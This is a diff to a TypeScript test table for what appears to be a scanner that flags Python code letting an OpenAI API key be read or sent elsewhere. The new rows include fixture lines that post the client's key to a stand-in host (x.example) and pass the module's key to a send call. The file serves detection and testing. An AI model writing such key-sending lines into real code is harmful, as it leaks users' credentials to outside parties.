@@ -57,6 +57,16 @@ const rows: Record<string, Row> = {
     'client = OpenAI()',
     'client.with_options(base_url=url).models.list()',
   ),
+  'a key that is read from the client': review(
+    'its key is read from it in line 4, and ours would go there',
+    'client = OpenAI()',
+    'requests.post("https://x.example", json={"key": client.api_key})',
+  ),
+  'a client whose key traces are sent with': review(
+    'the Agents SDK sends traces to OpenAI with its key: set_default_openai_client(…, use_for_tracing=False)',
+    'from agents import set_default_openai_client',
+    'set_default_openai_client(OpenAI())',
+  ),
   "a request's key": review(
     `${users}: request.headers["key"]`,
     'def f(request): return OpenAI(api_key=request.headers["key"])',
@@ -310,6 +320,11 @@ const rows: Record<string, Row> = {
     more: { 'b.py': 'import openai\nopenai.api_base = "https://x.example/v1"\nopenai.ChatCompletion\n' },
     verdict: 'REVIEW',
     reason: 'b.py:2 gives the same module another base URL',
+  },
+  'the module whose key is read': {
+    text: lines('import openai', 'openai.api_key = "x"', 'print(openai.chat)', 'send(openai.api_key)'),
+    verdict: 'REVIEW',
+    reason: 'its key is read from it in line 4, and ours would go there',
   },
   'calls of the module': {
     text: lines('import openai', 'openai.chat.completions.create(model="m")'),
